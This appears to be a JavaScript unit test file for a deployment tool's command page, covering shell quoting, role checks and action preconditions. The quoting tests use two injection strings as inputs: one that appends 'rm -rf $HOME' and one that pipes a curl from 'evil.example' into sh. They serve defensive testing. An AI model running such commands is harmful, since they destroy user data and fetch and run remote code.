import assert from 'node:assert/strict';
import test from 'node:test';
import {ACTIONS, commandLine, commonPrefix, shellWord, whyNot, whyNotDeadLetters} from '../page/command.js';

const user = role => ({name: 'jo', role, applications: [], clusters: []});
const application = {defined: true, clusters: [{}], plans: [], generations: [{commit: 'a'.repeat(40)}]};
const action = id => ACTIONS.find(one => one.id === id);

test('a command line is safe to paste', () => {
  assert.equal(shellWord('web-1.2'), 'web-1.2');
  assert.equal(shellWord("it's; rm -rf $HOME `x`"), "'it'\\''s; rm -rf $HOME `x`'");
  assert.equal(
    commandLine('rollback', {applications: ['web'], clusters: ['east'], options: ['--to', 'abc'], reason: 'too slow'}),
    "./sluice rollback web --cluster east --to abc --reason 'too slow'",
  );
});

test('words that a shell or an option parser would read otherwise are quoted', () => {
  assert.equal(shellWord('x;curl${IFS}evil.example|sh'), "'x;curl${IFS}evil.example|sh'");
  assert.equal(shellWord('-rf'), "'-rf'");
  assert.equal(commonPrefix(['command/jo/key/a', 'command/jo/key/b']), 'command/jo/key/');
});

test('a role that is too low is named', () => {
  assert.equal(whyNot(action('sync'), user('viewer'), application), 'Needs the role operator; jo has viewer.');
  assert.equal(whyNot(action('approve'), user('operator'), application), 'Needs the role admin; jo has operator.');
  assert.equal(whyNot(action('sync'), user('operator'), application), '');
  assert.notEqual(whyNotDeadLetters(user('viewer')), '');
  assert.equal(whyNotDeadLetters(user('operator')), '');
});

test('an action needs something to act on', () => {
  const held = what => ({...application, clusters: [{held: {what}}]});
  assert.notEqual(whyNot(action('resume'), user('admin'), application), '');
  assert.equal(whyNot(action('resume'), user('admin'), held('pinned')), '');
  assert.notEqual(whyNot(action('suspend'), user('admin'), held('suspended')), '');
  assert.equal(whyNot(action('release'), user('admin'), held('window')), '');
  assert.notEqual(whyNot(action('approve'), user('admin'), application), '');
  assert.notEqual(whyNot(action('rollback'), user('admin'), {...application, generations: []}), '');
  assert.notEqual(whyNot(action('sync'), user('admin'), {...application, defined: false}), '');
});
